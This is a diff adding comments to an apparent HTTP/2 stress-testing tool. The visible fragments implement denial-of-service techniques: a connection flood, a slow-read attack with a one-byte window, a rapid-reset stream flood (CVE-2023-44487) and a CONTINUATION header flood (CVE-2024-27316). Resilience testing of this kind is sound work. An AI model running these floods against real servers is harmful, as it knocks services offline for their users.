@@ -53,6 +53,7 @@ class Pace:
     async def turn(self) -> bool:
         """Wait for the next turn; False: time is over. Missed turns are not made up for."""
         now = self._start()
+        # At most 0.1 s of missed turns is caught up: otherwise a stall would end in a burst far above the rate.
         self._next = max(self._next + self._every, now - 0.1)
         if self._next > now:
             await asyncio.sleep(self._next - now)
@@ -88,6 +89,7 @@ async def _many(door: Door, count: int) -> AsyncIterator[list[Connection]]:
         for _ in range(count):
             try:
                 connections.append(await stack.enter_async_context(connected(door)))
+            # A refused connection is what a limit looks like; the flood goes on with those that it has.
             except OSError:
                 break
         yield connections
@@ -127,6 +129,7 @@ async def unread(door: Door, pace: Pace) -> int:
     async with AsyncExitStack() as stack:
         while sent < UNREAD and await pace.turn():
             with suppress(OSError):
+                # A window of one byte: the rest of the answer stays in the memory of the server.
                 opened = connected(door, read=False, settings=SMALL_WINDOW)
                 connection = await stack.enter_async_context(opened)
                 await connection.call(headers, b"\0" + len(message).to_bytes(4, "big") + message)
@@ -147,6 +150,7 @@ async def resets(door: Door, pace: Pace) -> int:
 
     async def send(connection: Connection) -> None:
         number = await connection.call(headers, NOTHING)
+        # A cancelled stream no longer counts against the limit of streams, and its work may be done (CVE-2023-44487).
         await connection.send(frame(RESET, 0, number, CANCEL))
 
     return await _spread(door, pace, 5, send)
@@ -159,6 +163,8 @@ async def continuations(door: Door, pace: Pace) -> int:
     while await pace.turn():
         with suppress(OSError):
             async with connected(door) as connection:
+                # Without END_HEADERS the server has to keep the headers until the last frame, which never comes
+                # (CVE-2024-27316).
                 number = connection.stream()
                 await connection.send(frame(HEADERS, 0, number, headers))
                 while not connection.gone and await pace.turn():
